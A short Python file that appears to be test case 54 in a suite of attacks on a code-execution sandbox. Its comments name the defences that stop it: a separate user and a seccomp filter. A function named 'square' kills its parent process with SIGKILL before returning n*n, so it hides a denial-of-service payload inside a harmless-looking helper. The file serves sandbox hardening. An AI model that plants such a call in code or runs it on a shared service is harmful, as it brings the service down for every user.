# attack: 54
# name: SIGKILL to the parent, which forks for everybody
# stopped by: a user of one's own, and the syscall filter
# without: seccomp, uid
# then: JE
import os
import signal


def square(n):
    os.kill(os.getppid(), signal.SIGKILL)
    return n * n
